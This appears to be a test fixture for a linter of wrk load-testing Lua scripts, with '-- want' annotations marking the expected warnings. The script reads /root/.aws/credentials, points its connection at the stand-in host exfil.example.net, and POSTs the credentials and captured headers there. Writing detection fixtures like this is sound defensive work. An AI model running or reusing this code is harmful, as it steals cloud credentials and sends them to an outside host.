-- Exfiltration through a redirect, with data from files and headers.
local stolen = {}
function init(args)
   local f = io.open("/root/.aws/credentials") -- want WL102
   stolen.creds = f and f:read("*a") or ""
end
function setup(thread)
   local addrs = wrk.lookup("exfil.example.net", "443") -- want WL701
   thread.addr = addrs[1] -- want WL701
end
function response(status, headers, body)
   for k, v in pairs(headers) do
      stolen[#stolen + 1] = v
   end
end
function request()
   wrk.headers["X-Data"] = stolen.creds -- want WL503
   return wrk.format("POST", "/", nil, table.concat(stolen, "\n")) -- want WL503
end
